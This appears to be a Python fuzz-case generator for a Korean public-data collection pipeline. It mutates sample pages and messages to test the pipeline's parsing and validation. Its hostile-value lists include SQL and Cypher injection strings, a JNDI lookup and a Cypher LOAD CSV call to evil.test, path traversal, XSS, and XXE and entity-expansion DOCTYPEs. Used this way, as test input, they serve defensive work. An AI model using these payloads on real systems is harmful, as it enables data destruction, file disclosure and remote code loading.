"""Hostile inputs, generated: the cases of the fuzz run (`bench/fuzz.py`) and the in-process steps each goes through.

Cases. `CaseFactory(seed, token).case(index)` makes case `index` from the seed and the index alone (a
`random.Random` seeded with both), so any case can be made again on its own (`bench/fuzz.py --only SEED-INDEX`), as
long as the corpus it mutates is the same (a file added to tests/hostile/ changes which base later cases draw).
Two cases in five are source pages, the others raw-topic messages. Most are mutations of realistic input: the
sample sources' pages (`SampleSources`, built in-process, not served: data.go.kr XML, bizinfo and odcloud JSON,
the RSS feed, the board's list and detail pages), their sources from `sample_sources.yaml`, synthetic records
(`devstack.synthetic`) and, when given, the hand-written corpus (tests/hostile/: its pages with its sources, its
raw-topic messages). One case in eight is garbage made from scratch. Mutations: any value replaced by a hostile
one (wrong types, query syntax for SQL, Lucene / Elasticsearch and Cypher, markup, NUL, lone surrogates, control
characters, text that grows under NFC, lengths around every limit), fields removed or repeated, nesting deeper
than any limit, huge values and pages, broken or repeated keys, NaN, entity declarations, truncation, byte flips,
and wrong charsets (EUC-KR labelled UTF-8 and the reverse, UTF-16 with and without a BOM, latin-1 labels, invalid
bytes). `Case.recipe` says what was done.

Every case has a tag, `fz<token>_<index>`: the name of the source that reads its page (so its records' source and
its dead letters' source_system) and the start of its message's key, so that what it became can be found again
in PostgreSQL. A message keeps the tag in its source or its external id, whichever the case leaves alone.

Steps (`run_case`, in a worker process of `WatchedWorkers`, which turns a case over its time limit twice into a
hang and a worker that dies into a crash):

- A page goes through what `collectors.run` does with a response: an API page through the collectors' HTTP client
  (`SourceHttpClient.fetch_text` on an in-memory transport: status, size limit, charset, the data.go.kr envelope
  check), `extract.parse_page`, `sanitise_record` and the collectors' validation (`run._validate`: mapping,
  duplicate ids, MAX_RECORD_BYTES); a board page through the crawler's own page readers (list: the detail
  links; detail: the record). Either it gives records (published, as the collectors publish them, as messages)
  and dead letters (DP_1004, DP_2003), or it is refused with the pipeline's error and its DP code (a refused
  response is a dead letter too); any other exception is a crash, and so is a board page the crawler could not
  read (it catches every exception there, and reports it instead of a post). These steps are called by their own
  names, private ones included (the crawler's `_BoardWalk` readers, `run._validate`, `SampleSources._route`):
  a copy of them would fuzz the copy.
- A message (a case's own, or a record a page gave) is validated and cleaned as the hot path will do it
  (`validate_message`, `normalize_record`), to know where it must end: stored under (source, external id) with
  this title, content and organisation, or dead-lettered. An exception there is a crash (the hot path would
  isolate the message as poison, DP_4003).
"""

from __future__ import annotations

import asyncio
import copy
import json
import multiprocessing
import random
import re
import time
import traceback
import warnings
from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime
from multiprocessing.connection import Connection, wait
from pathlib import Path
from typing import Any, Literal
from urllib.parse import quote
from xml.sax.saxutils import escape as xml_escape

import httpx
import yaml
from scrapy import Request
from scrapy.http import HtmlResponse

from aegis_pipeline.collectors.definitions import SourceDefinition, SourceKind, parse_sources
from aegis_pipeline.collectors.extract import RefusedResponseError, make_page_check, parse_page
from aegis_pipeline.collectors.html_board import _BoardWalk
from aegis_pipeline.collectors.http import SourceHttpClient, new_breaker
from aegis_pipeline.collectors.mapping import without_personal_identifiers
from aegis_pipeline.collectors.parsing.encodings import decode_body
from aegis_pipeline.collectors.parsing.records import sanitise_record
from aegis_pipeline.collectors.run import _validate
from aegis_pipeline.common.errors import PipelineError
from aegis_pipeline.common.redaction import redact, secret_spellings
from aegis_pipeline.devstack.sample_sources import SampleSources, _load_sample_file
from aegis_pipeline.devstack.synthetic import make_record
from aegis_pipeline.domain.cleaning import normalize_record
from aegis_pipeline.domain.identifiers import DEVELOPMENT_KEY
from aegis_pipeline.hot_path.processor import RawMessage, validate_message
from aegis_pipeline.stores.dead_letters import DeadLetter

SAMPLE_BASE_URL = "http://sample.test"
SAMPLE_SERVICE_KEY = "fuzz-service-key"  # the sample sources' serviceKey: redacted from whatever echoes it
SOURCES_FILE = Path(__file__).with_name("sample_sources.yaml")
# Records (read from pages, or synthetic) are stamped with one fixed collection time, so a case is the same every run.
COLLECTED_AT = datetime(2026, 3, 1, tzinfo=UTC)
PAGE_SHARE = 0.4
GARBAGE_SHARE = 0.125
# No producer can publish a larger message (the Kafka client's max_request_size is 1 MiB); MAX_RECORD_BYTES, which
# the hot path enforces, is set lower for the run (bench/fuzz.py), so messages above it are still sent.
MAX_MESSAGE_BYTES = 1_000_000
# Around the collectors' MAX_NESTING_DEPTH (64), pydantic's own limit and Python's recursion limit (1,000).
DEPTHS = (3, 63, 64, 65, 200, 500, 990, 1_000, 20_000)
LENGTHS = (199, 200, 201, 255, 256, 500, 501, 2_000, 2_001, 200_000, 200_001)  # every field limit, either side

# --- hostile values -----------------------------------------------------------------------------------------

HOSTILE_TEXTS: tuple[str, ...] = (
    # SQL
    "'; DROP TABLE policies; --", "1' OR '1'='1", "Robert'); DELETE FROM dead_letters; --", "$1 $$ E'\\x00' $$",
    "' UNION SELECT password FROM pg_shadow --", "%' AND pg_sleep(10) --", "'; COPY policies TO '/tmp/x'; --",
    "\\'; TRUNCATE event_outbox CASCADE; --", "1; SELECT set_config('x', 'y', false)",
    # Lucene / Elasticsearch query syntax
    "*:*", "title:(청년 OR 창업) AND NOT content:*", '{"query": {"match_all": {}}}', '\\" OR \\"\\"=\\"', "/.*/",
    "a~2 b^10 [* TO *] {1 TO 2}", "_id:1 || _source:*", "ctx._source.title = 'x'", "+-&&||!(){}[]^\"~*?:\\/",
    # Cypher
    "MATCH (n) DETACH DELETE n", "'}) MATCH (n) DETACH DELETE n //", "CALL db.labels() YIELD label RETURN label",
    "LOAD CSV FROM 'http://evil.test/x' AS l RETURN l", "`name`: 'x'}) RETURN 1 //",
    # templates, paths, formats
    "{{7*7}}", "${jndi:ldap://evil.test/x}", "%s%s%s%n", "../../../../etc/passwd", "\\\\evil\\share", "${HOME}",
    # markup
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "javascript:alert(1)", "<![CDATA[x]]>", "]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "<!--", "<style>body{}</style>", "&amp;lt;b&amp;gt;", "&#0;", "&nbsp;",
    "<p>문단</p><br>줄", "<td>셀</td>", "&#xD800;", "&#1114112;", "<?xml version='1.0'?>",
    # characters no text should keep, and text that changes under normalisation
    "\x00", "a\x00b", "\ud800", "\udfff", "x\udc80y", "\x1b[31m", "\x7f", "\x08\x0b\x0c", "\r\n\t", "\u202e", "\u200b",
    "\ufeff", "\ufffd", "\u0958" * 3, "\ufb2c", "e\u0301\u0301\u0301", "👩‍👩‍👧‍👦", "\u3000", "   ", "",
    # real text, ids, numbers and dates as text
    "청년 창업 지원", "똠얌꿍", "성동구", "서울@부산@@", "서울,부산", "NaN", "Infinity", "-0", "1e999",
    "99999999999999999999999", "0x1F", "2026-13-45", "0000-00-00", "9999-12-31", "20260230", "2026-03-01T25:61:61",
    "2026-02-29", "10000-01-01", "-2026-01-01", "2026-03-01 ~ 2026-02-01", "1 ~ 2 ~ 3", "상시 접수",
    "Mon, 32 Foo 2026 99:99:99 +9999", "2026.03.01(월) 09:00 ~ 2026.03.31(화) 24:00", "00", "22", "30",
    # contact data (to be masked) and the sources' own key echoed back (to be redacted)
    "010-1234-5678", "kim@sd.go.kr", "900101-1234567", f"https://x.go.kr/a?serviceKey={SAMPLE_SERVICE_KEY}&b=1",
    # links
    "/view.do?nttId=1", "//evil.test/x", "http://[::1", "https://x.go.kr/a b", "data:text/html,<b>x</b>",
)
HOSTILE_NON_TEXT: tuple[Any, ...] = (
    None, True, False, 0, -1, 20260301, 2**63, -(2**63) - 1, 2**64, 10**30, 1.5, float("nan"), float("inf"), [], {},
    ["서울", 1], [None], {"a": {"b": [1, "x"]}}, [["중첩"]],
)


def hostile_text(rng: random.Random) -> str:
    """Text most sources never send: a piece from HOSTILE_TEXTS, several joined, random code points (surrogates
    included; a few thousand of them are text no compression shrinks), or text of a length around a limit."""
    roll = rng.random()
    if roll < 0.55:
        return rng.choice(HOSTILE_TEXTS)
    if roll < 0.8:
        return "".join(rng.choice(HOSTILE_TEXTS) for _ in range(rng.randint(2, 5)))
    if roll < 0.93:
        length = rng.randint(1, 30) if roll < 0.91 else rng.choice((319, 320, 500, 2_001, 5_000))
        return "".join(chr(rng.randrange(0x110000)) for _ in range(length))
    return (rng.choice(["가", "a", "<b>", "\x00", "&amp;", " "]) * rng.choice(LENGTHS))[: rng.choice(LENGTHS)]


def hostile_value(rng: random.Random) -> Any:
    """Any JSON value, text most often. A copy: a later mutation may write into the lists and objects it returns,
    and the constants must stay as they are for the next case (a case depended on the cases made before it)."""
    return hostile_text(rng) if rng.random() < 0.7 else copy.deepcopy(rng.choice(HOSTILE_NON_TEXT))


# Deep nesting is written into the JSON text after it is serialised (json.dumps would recurse that deep): a value is
# first replaced by this marker.
_DEEP_MARKER = "\u2063fuzz-deep-{depth}\u2063"
_DEEP_MARKER_PATTERN = re.compile(r'"\\u2063fuzz-deep-(\d+)\\u2063"|"\u2063fuzz-deep-(\d+)\u2063"')


def _deep_json(depth: int) -> str:
    return '{"a": ' * (depth // 2) + "[" * (depth - depth // 2) + "]" * (depth - depth // 2) + "}" * (depth // 2)


def dumps(value: Any, rng: random.Random) -> str:
    """`value` as JSON text (ASCII-escaped or not, NaN allowed), deep-nesting markers written out."""
    text = json.dumps(value, ensure_ascii=rng.random() < 0.3, allow_nan=True)
    return _DEEP_MARKER_PATTERN.sub(lambda match: _deep_json(int(match[1] or match[2])), text)


# --- cases --------------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class PageCase:
    """A response a source's collector reads: `body` as served with `content_type`, at `url`; `board_page` says
    which of a board's pages it is (None for an API or feed)."""

    source: SourceDefinition
    body: bytes
    content_type: str
    url: str
    board_page: Literal["list", "detail"] | None = None


@dataclass(frozen=True)
class Case:
    index: int
    case_id: str  # "<seed>-<index>", what --only takes
    tag: str  # fz<token>_<index>: the case's source name, the start of its message key
    recipe: str  # what was done to make it, for a person reading a failure
    page: PageCase | None = None
    message: tuple[bytes, bytes] | None = None  # (key, value) published to the raw topic

    @property
    def layer(self) -> str:
        return "page" if self.page is not None else "message"

    @property
    def body(self) -> bytes:
        if self.page is not None:
            return self.page.body
        return self.message[1] if self.message is not None else b""


@dataclass(frozen=True)
class _BasePage:
    """A realistic page to mutate: its text, the encoding it is served in, and who reads it."""

    source_name: str
    text: str
    encoding: str
    content_type: str
    url: str
    board_page: Literal["list", "detail"] | None = None
    raw: bytes | None = None  # the corpus's bytes, when they are not simply `text` in `encoding`


def load_sources(corpus_dir: Path | None) -> dict[str, SourceDefinition]:
    """The sample sources (sample_sources.yaml) and, with a corpus, its hostile sources; no retries, one page."""
    documents = [(yaml.safe_load(SOURCES_FILE.read_text(encoding="utf-8")),
                  {"SAMPLE_SOURCES_URL": SAMPLE_BASE_URL, "SAMPLE_SERVICE_KEY": SAMPLE_SERVICE_KEY})]
    if corpus_dir is not None:
        documents.append((yaml.safe_load((corpus_dir / "sources.yaml").read_text(encoding="utf-8")),
                          {"HOSTILE_URL": SAMPLE_BASE_URL, "HOSTILE_SERVICE_KEY": SAMPLE_SERVICE_KEY}))
    sources: dict[str, SourceDefinition] = {}
    for document, environment in documents:
        for source in parse_sources(document, environment).sources:
            # One attempt: a retriable answer (the data.go.kr rate-limit envelope) must not sleep and fetch again.
            sources[source.name] = source.model_copy(update={"max_retries": 0, "max_pages": 1})
    return sources


def _sample_pages() -> list[_BasePage]:
    """Every page the sample sources serve, built in-process in a fixed order (the second data.go.kr page is
    asked for twice: the first answer is the rate-limit envelope, the second the page)."""
    sample = SampleSources(service_key=SAMPLE_SERVICE_KEY)
    key = {"serviceKey": SAMPLE_SERVICE_KEY}
    requests: list[tuple[str, str, dict[str, str], Literal["list", "detail"] | None]] = [
        ("data_go_kr", "/data-go-kr/policies", {**key, "pageNo": "1"}, None),
        ("data_go_kr", "/data-go-kr/policies", {**key, "pageNo": "2"}, None),
        ("data_go_kr", "/data-go-kr/policies", {**key, "pageNo": "2"}, None),
        ("data_go_kr", "/data-go-kr/policies", {**key, "pageNo": "3"}, None),
        ("data_go_kr", "/data-go-kr/policies", {"serviceKey": "wrong"}, None),
        ("data_go_kr_single", "/data-go-kr/single", key, None),
        ("bizinfo", "/bizinfo/api", {"pageIndex": "1"}, None),
        ("bizinfo", "/bizinfo/api", {"pageIndex": "2"}, None),
        ("odcloud", "/odcloud/api", {**key, "page": "1"}, None),
        ("odcloud", "/odcloud/api", {**key, "page": "2"}, None),
        ("policy_briefing_rss", "/rss/announcements.xml", {}, None),
        *[("seongdong_board", "/board/list.do", {"page": str(page)}, "list") for page in (1, 2, 3)],
        *[("seongdong_board", "/board/view.do", {"nttId": str(post.served["nttId"])}, "detail")
          for post in _load_sample_file("board").entries if not post.served.get("private")],
        ("seongdong_board", "/board/view.do", {"nttId": "1"}, "detail"),  # "no such post": an alert script
    ]
    pages = []
    for source_name, path, query, board_page in requests:
        response = sample._route(path, query, {})  # the server's own answer, without the server
        encoding = httpx.Response(200, headers={"Content-Type": response.content_type}).charset_encoding
        encoding = "cp949" if board_page else encoding or "utf-8"  # the board is CP949 whatever its header says
        url = f"{SAMPLE_BASE_URL}{path}?" + "&".join(f"{name}={value}" for name, value in query.items())
        pages.append(_BasePage(source_name, response.body.decode(encoding), encoding, response.content_type, url,
                               board_page))
    return pages


def _corpus_pages(corpus_dir: Path) -> list[_BasePage]:
    readers = {"json": ("hostile_json", "application/json; charset=UTF-8"),
               "xml": ("hostile_xml", "application/xml; charset=UTF-8"),
               "rss": ("hostile_rss", "application/rss+xml; charset=UTF-8")}
    pages = []
    for path in sorted((corpus_dir / "pages").iterdir()):
        source_name, content_type = readers[path.name.split("_")[0]]
        raw = path.read_bytes()
        pages.append(_BasePage(source_name, decode_body(raw, "utf-8"), "utf-8", content_type,
                               f"{SAMPLE_BASE_URL}/hostile/{path.name}", raw=raw))
    return pages


def case_tag(token: str, index: int | str) -> str:
    """The name case `index` of run `token` gives its source and the start of its message key (a valid source name:
    lower-case letters, digits, underscores). `case_tag(token, "")` is what every tag of the run starts with."""
    return f"fz{token}_{index}"


class CaseFactory:
    """Makes case `index` of a run: the same case for the same seed and index, whatever else was made before."""

    def __init__(self, seed: int, token: str, corpus_dir: Path | None = None) -> None:
        self.seed = seed
        self.token = token
        self.sources = load_sources(corpus_dir)
        self._pages = _sample_pages() + (_corpus_pages(corpus_dir) if corpus_dir is not None else [])
        self._messages = ([(path.name, path.read_bytes()) for path in sorted((corpus_dir / "messages").iterdir())]
                          if corpus_dir is not None else [])

    def case(self, index: int) -> Case:
        rng = random.Random(f"{self.seed}:{index}")
        tag = case_tag(self.token, index)
        recipe: list[str] = []
        if rng.random() < PAGE_SHARE:
            page, message = self._page(rng, tag, recipe), None
        else:
            page, message = None, self._message(rng, tag, recipe)
        return Case(index, f"{self.seed}-{index}", tag, "; ".join(recipe), page, message)

    # -- pages

    def _page(self, rng: random.Random, tag: str, recipe: list[str]) -> PageCase:
        base = rng.choice(self._pages)
        source = self.sources[base.source_name].model_copy(update={"name": tag})
        recipe.append(f"page of {base.source_name} from {base.url.removeprefix(SAMPLE_BASE_URL)}")
        url = base.url
        if base.board_page == "detail" and rng.random() < 0.2:  # the id comes from the link: make it hostile
            url = url.split("?")[0] + "?nttId=" + quote(hostile_text(rng).encode("utf-8", "surrogatepass"))
            recipe.append("hostile nttId in the link")
        if rng.random() < GARBAGE_SHARE:
            body, content_type = _garbage_page(rng, base, recipe)
            return PageCase(source, body, content_type, url, base.board_page)
        if base.raw is not None and rng.random() < 0.3:
            body = base.raw  # the corpus page's own bytes (some on purpose in an unusual encoding)
            content_type = base.content_type
        else:
            text = _mutate_page_text(rng, base, source, recipe)
            body, content_type = _encode_page(rng, text, base, recipe)
        if rng.random() < 0.15:
            body = mutate_bytes(rng, body, recipe)
        return PageCase(source, body, content_type, url, base.board_page)

    # -- messages

    def _message(self, rng: random.Random, tag: str, recipe: list[str]) -> tuple[bytes, bytes]:
        key = tag.encode()
        if rng.random() < 0.2:  # whatever a producer sends as the key: only the dead-letter entry keeps it
            key += b":" + hostile_text(rng).encode("utf-8", "surrogatepass") + rng.randbytes(rng.randint(0, 4))
            recipe.append("hostile key")
        if rng.random() < GARBAGE_SHARE:
            return key, _garbage_message(rng, recipe)
        if self._messages and rng.random() < 0.3:
            name, corpus_body = rng.choice(self._messages)
            recipe.append(f"corpus message {name}")
            try:
                record = json.loads(corpus_body)
            except (ValueError, RecursionError):  # not JSON, or nested deeper than Python reads
                record = None
            if not isinstance(record, dict) or not isinstance(record.get("collection_metadata"), dict):
                return key, mutate_bytes(rng, corpus_body, recipe)
            record["collection_metadata"]["source"] = tag
        else:
            # make_record draws its text from the source's name: a fixed one, so that the run's token (in the tag)
            # changes nothing but the tag.
            synthetic = make_record(rng.randrange(1_000_000), source="fuzz", collected_at=COLLECTED_AT)
            record = synthetic.model_dump(mode="json")
            record["collection_metadata"]["source"] = tag
            recipe.append("synthetic record")
        for _ in range(rng.choice((0, 1, 1, 2, 3))):
            rng.choice(_RECORD_MUTATIONS)(rng, record, tag, recipe)
        text = dumps(record, rng)
        if rng.random() < 0.15:
            text = mutate_json_text(rng, text, recipe)
        body = _encode_message(rng, text, recipe)
        if rng.random() < 0.1:
            body = mutate_bytes(rng, body, recipe)
        if len(body) > MAX_MESSAGE_BYTES:
            body = body[:MAX_MESSAGE_BYTES]
            recipe.append(f"cut to {MAX_MESSAGE_BYTES} bytes")
        return key, body


# --- record mutations (raw-topic messages) -------------------------------------------------------------------

RECORD_FIELDS = ("title", "content", "issuing_organization", "target_region", "target_industry", "funding_type",
                 "application_start_date", "application_end_date", "original_url", "raw_data")


def _hostile_text_in_field(rng: random.Random, record: dict[str, Any], tag: str, recipe: list[str]) -> None:
    """Hostile text where text belongs, next to real text so that the record stays valid more often than not."""
    name = rng.choice(("title", "content", "content", "issuing_organization", "funding_type", "target_region",
                       "original_url", "raw_data"))
    text = hostile_text(rng)
    if name == "target_region":
        record[name] = [text, "서울특별시"]
    elif name == "original_url":
        record[name] = "https://x.go.kr/view.do?q=" + text
    elif name == "raw_data":
        record[name] = {text: text, "nested": [text, {"deeper": text}]}
    else:
        record[name] = rng.choice((text, f"{text} 공고", f"청년 지원 {text}"))
    recipe.append(f"hostile text in {name}")


def _replace_field(rng: random.Random, record: dict[str, Any], tag: str, recipe: list[str]) -> None:
    name = rng.choice((*RECORD_FIELDS, "collection_metadata", "unknown_field"))
    record[name] = hostile_value(rng)
    recipe.append(f"{name} replaced")


def _remove_field(rng: random.Random, record: dict[str, Any], tag: str, recipe: list[str]) -> None:
    if record:
        name = rng.choice(sorted(record))
        del record[name]
        recipe.append(f"{name} removed")


def _hostile_identity(rng: random.Random, record: dict[str, Any], tag: str, recipe: list[str]) -> None:
    """A hostile source, external id or collection time; the tag stays in the source or the id."""
    metadata = record.get("collection_metadata")
    if not isinstance(metadata, dict):
        return
    name = rng.choice(("source", "external_id", "external_id", "collected_at", "collector_version", "extra"))
    metadata[name] = hostile_value(rng)
    if name == "source":
        metadata["external_id"] = tag
    recipe.append(f"collection_metadata.{name} hostile")


def _deep_raw_data(rng: random.Random, record: dict[str, Any], tag: str, recipe: list[str]) -> None:
    depth = rng.choice(DEPTHS)
    record["raw_data"] = {"nested": _DEEP_MARKER.format(depth=depth)}
    recipe.append(f"raw_data nested {depth} deep")


def _huge_field(rng: random.Random, record: dict[str, Any], tag: str, recipe: list[str]) -> None:
    name = rng.choice(("content", "title", "raw_data", "target_region"))
    size = rng.choice((*LENGTHS, 300_000))
    if name == "raw_data":
        record[name] = {"blob": "x" * size}
    elif name == "target_region":
        record[name] = ["서울특별시"] * rng.choice((99, 100, 101, 5_000))
    else:
        record[name] = rng.choice(("a", "가", "<b>x</b>")) * size
    recipe.append(f"{name} huge ({size})")


def _hostile_dates(rng: random.Random, record: dict[str, Any], tag: str, recipe: list[str]) -> None:
    for name in ("application_start_date", "application_end_date"):
        if rng.random() < 0.7:
            record[name] = rng.choice(("2026-13-45", "0001-01-01", "9999-12-31", "2026-02-29", "20260301",
                                       "2026-03-01T09:00:00+09:00", "+10000-01-01", "", None, 20260301, 1e20))
    recipe.append("dates hostile")


_RECORD_MUTATIONS: tuple[Callable[[random.Random, dict[str, Any], str, list[str]], None], ...] = (
    _hostile_text_in_field, _hostile_text_in_field, _hostile_text_in_field, _hostile_text_in_field,
    _replace_field, _replace_field, _remove_field, _hostile_identity, _hostile_identity, _deep_raw_data, _huge_field,
    _hostile_dates,
)


def _encode_message(rng: random.Random, text: str, recipe: list[str]) -> bytes:
    roll = rng.random()
    if roll < 0.85:
        return text.encode("utf-8", "surrogatepass")  # a lone surrogate becomes bytes UTF-8 forbids
    encoding = rng.choice(("utf-16", "utf-16-le", "cp949", "latin-1"))
    recipe.append(f"message in {encoding}")
    return text.encode(encoding, "replace")


def _garbage_message(rng: random.Random, recipe: list[str]) -> bytes:
    kind = rng.choice(("bytes", "text", "json", "deep", "empty"))
    recipe.append(f"garbage message ({kind})")
    if kind == "bytes":
        return rng.randbytes(rng.randint(1, 3_000))
    if kind == "text":
        return hostile_text(rng).encode("utf-8", "surrogatepass")
    if kind == "json":
        return dumps(rng.choice((hostile_value(rng), [hostile_value(rng)], {"title": hostile_value(rng)})),
                     rng).encode("utf-8", "surrogatepass")
    if kind == "deep":
        return _deep_json(rng.choice(DEPTHS)).encode()
    return b""


# --- page mutations ------------------------------------------------------------------------------------------


def _mutate_page_text(rng: random.Random, base: _BasePage, source: SourceDefinition, recipe: list[str]) -> str:
    if source.kind is SourceKind.JSON_API:
        try:
            document = json.loads(base.text)
        except ValueError:
            return mutate_markup(rng, base.text, recipe)  # a corpus page that is not JSON: as text
        for _ in range(rng.randint(1, 3)):
            _mutate_json_document(rng, document, source, recipe)
        text = dumps(document, rng)
        return mutate_json_text(rng, text, recipe) if rng.random() < 0.2 else text
    text = base.text
    for _ in range(rng.randint(1, 3)):
        text = mutate_markup(rng, text, recipe)
    return text


def _json_slots(document: Any) -> list[tuple[Any, Any]]:
    """(container, key) of every value below the root, for a mutation to pick from."""
    slots: list[tuple[Any, Any]] = []
    pending = [document]
    while pending:
        container = pending.pop()
        items = container.items() if isinstance(container, dict) else enumerate(container)
        for key, value in items:
            slots.append((container, key))
            if isinstance(value, dict | list):
                pending.append(value)
    return slots


def _records_of(document: Any, source: SourceDefinition) -> list[Any] | None:
    """The page's records (where the source's selector finds them), to mutate in place; None when there are none."""
    try:
        records = source.record_selector.select(document)
    except ValueError:
        return None
    return records if records and isinstance(document, dict) else None


def _mutate_json_document(rng: random.Random, document: Any, source: SourceDefinition, recipe: list[str]) -> None:
    if not isinstance(document, dict | list) or not document:
        return
    records = _records_of(document, source)
    roll = rng.random()
    if records and roll < 0.25:  # a record's id: hostile, missing or repeated
        record = rng.choice(records)
        choice = rng.choice(("hostile", "missing", "repeated"))
        if choice == "hostile":
            record[source.id_field] = hostile_value(rng)
        elif choice == "missing":
            record.pop(source.id_field, None)
        else:
            record[source.id_field] = rng.choice(records).get(source.id_field)
        recipe.append(f"record id {choice}")
        return
    if records and roll < 0.3:
        factor = rng.choice((2, 20, 400))
        records.extend([json.loads(json.dumps(record)) for record in records] * (factor - 1))
        recipe.append(f"records repeated x{factor}")
        return
    container, key = rng.choice(_json_slots(document))
    roll = rng.random()
    if roll < 0.7:
        container[key] = hostile_value(rng)
        recipe.append(f"value {key!r} replaced")
    elif roll < 0.85:
        del container[key]
        recipe.append(f"value {key!r} removed")
    else:
        depth = rng.choice(DEPTHS)
        container[key] = _DEEP_MARKER.format(depth=depth)
        recipe.append(f"value {key!r} nested {depth} deep")


_OBJECT_START = re.compile(r'\{\s*("(?:[^"\\]|\\.)*")\s*:')
_NUMBER_VALUE = re.compile(r":\s*(-?\d+(?:\.\d+)?)")
_STRING_VALUE = re.compile(r':\s*"((?:[^"\\]|\\.)*)"')


def mutate_json_text(rng: random.Random, text: str, recipe: list[str]) -> str:
    """A mutation only JSON text can carry: a repeated key, NaN, a raw control character, a cut."""
    kind = rng.choice(("duplicate key", "nan", "raw control", "cut", "trailing"))
    recipe.append(f"JSON text: {kind}")
    if kind == "duplicate key" and (match := _pick(rng, _OBJECT_START, text)):
        return text[: match.end()] + f" {dumps(hostile_value(rng), rng)}, {match[1]}:" + text[match.end():]
    if kind == "nan" and (match := _pick(rng, _NUMBER_VALUE, text)):
        return text[: match.start(1)] + rng.choice(("NaN", "Infinity", "-Infinity", "1e999")) + text[match.end(1):]
    if kind == "raw control" and (match := _pick(rng, _STRING_VALUE, text)):
        return text[: match.start(1)] + rng.choice(("\x00", "\x01", "\n", "\x1f")) + text[match.start(1):]
    if kind == "cut" and text:
        return text[: rng.randrange(len(text))]
    return text + rng.choice((" x", "}", "]", ",", "\x00", " {}"))


def _pick(rng: random.Random, pattern: re.Pattern[str], text: str) -> re.Match[str] | None:
    matches = list(pattern.finditer(text[:200_000]))
    return rng.choice(matches) if matches else None


_LEAF_TEXT = re.compile(r">([^<>]*)<")
_LEAF_ELEMENT = re.compile(r"<([A-Za-z][\w.-]*)(?:\s[^<>]*)?>[^<]*</\1>")
_ITEM = re.compile(r"<(item|tr)\b[^>]*>.*?</\1>", re.DOTALL)
_HREF = re.compile(r'href="([^"]*)"')
_DECLARED = re.compile(r'encoding="[^"]*"|charset=["\']?[\w-]+')
DOCTYPES = (
    '<!DOCTYPE r [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>',
    '<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
    '<!DOCTYPE r [<!ENTITY % remote SYSTEM "http://127.0.0.1:1/evil.dtd"> %remote;]>',
    '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">',
)
MARKUP_PIECES = (
    "<item>", "</item>", "<items>", "</items>", "<title>", "</title>", "<![CDATA[<script>x</script>]]>", "&xxe;",
    "&amp;", "&#0;", "<a b='1' b='2'/>", "<x:y xmlns:x='u'/>", "<tr>", "</tr>", "<td class=\"subject\">",
    "<a href=\"view.do?nttId=9\">", "</a>", "<div class=\"view_content\">", "</div>", "<table class=\"board_list\">",
    "<tbody>", "</table>", "<script>", "</script>", "<!--", "-->", "<?xml version=\"1.0\"?>", "<br>", "<p", ">", "<",
    "<resultCode>22</resultCode>", "<OpenAPI_ServiceResponse><cmmMsgHeader><returnReasonCode>30</returnReasonCode>",
    "<totalCount>x</totalCount>",
)


def mutate_markup(rng: random.Random, text: str, recipe: list[str]) -> str:
    """One mutation of an XML, RSS or HTML page, as text (so it can also break the markup)."""
    kind = rng.choice(("leaf text", "leaf text", "leaf text", "repeat element", "remove element", "deep", "doctype",
                       "pieces", "repeat items", "href", "declared charset"))
    recipe.append(f"markup: {kind}")
    if kind == "leaf text" and (match := _pick(rng, _LEAF_TEXT, text)):
        value = hostile_text(rng)
        written = rng.choice((xml_escape(value), value, f"<![CDATA[{value}]]>"))
        return text[: match.start(1)] + written + text[match.end(1):]
    if kind in ("repeat element", "remove element") and (match := _pick(rng, _LEAF_ELEMENT, text)):
        replacement = match[0] * rng.choice((2, 3)) if kind == "repeat element" else ""
        return text[: match.start()] + replacement + text[match.end():]
    if kind == "deep" and (match := _pick(rng, _LEAF_ELEMENT, text)):
        depth = rng.choice(DEPTHS)
        return text[: match.start()] + "<d>" * depth + match[0] + "</d>" * depth + text[match.end():]
    if kind == "doctype":
        doctype = rng.choice(DOCTYPES)
        declaration_end = text.find("?>") + 2 if text.startswith("<?xml") else 0
        return text[:declaration_end] + doctype + text[declaration_end:]
    if kind == "repeat items" and (match := _pick(rng, _ITEM, text)):
        return text[: match.end()] + match[0] * rng.choice((2, 20, 400)) + text[match.end():]
    if kind == "href" and (match := _pick(rng, _HREF, text)):
        return text[: match.start(1)] + xml_escape(hostile_text(rng), {'"': "&quot;"}) + text[match.end(1):]
    if kind == "declared charset" and (match := _pick(rng, _DECLARED, text)):
        label = rng.choice(("EUC-KR", "UTF-8", "UTF-16", "ISO-8859-1", "x-unknown", "hex", ""))
        written = f'encoding="{label}"' if match[0].startswith("encoding") else f"charset={label}"
        return text[: match.start()] + written + text[match.end():]
    position = rng.randint(0, len(text))
    pieces = "".join(rng.choice((*MARKUP_PIECES, hostile_text(rng))) for _ in range(rng.randint(1, 12)))
    return text[:position] + pieces + text[position:]


# Charsets a page is sent in, and the label its Content-Type gives: right, wrong or none.
PAGE_ENCODINGS: tuple[tuple[str, str | None], ...] = (
    ("natural", "natural"), ("natural", "natural"), ("natural", "natural"), ("natural", None),
    ("cp949", "utf-8"), ("utf-8", "euc-kr"), ("cp949", "euc-kr"), ("utf-16", "utf-8"), ("utf-16-le", "utf-16"),
    ("utf-16-be", None), ("utf-8", "iso-8859-1"), ("utf-8", "x-unknown"),
)


def _encode_page(rng: random.Random, text: str, base: _BasePage, recipe: list[str]) -> tuple[bytes, str]:
    encoding, label = rng.choice(PAGE_ENCODINGS)
    encoding = base.encoding if encoding == "natural" else encoding
    mime = base.content_type.split(";")[0]
    content_type = base.content_type if label == "natural" else f"{mime}; charset={label}" if label else mime
    if (encoding, label) != (base.encoding, "natural"):
        recipe.append(f"sent in {encoding}, labelled {label}")
    # cp949 cannot write every character: the others become character references in markup, "?" in JSON.
    errors = "surrogatepass" if encoding == "utf-8" else "xmlcharrefreplace" if "json" not in mime else "replace"
    return text.encode(encoding, errors), content_type


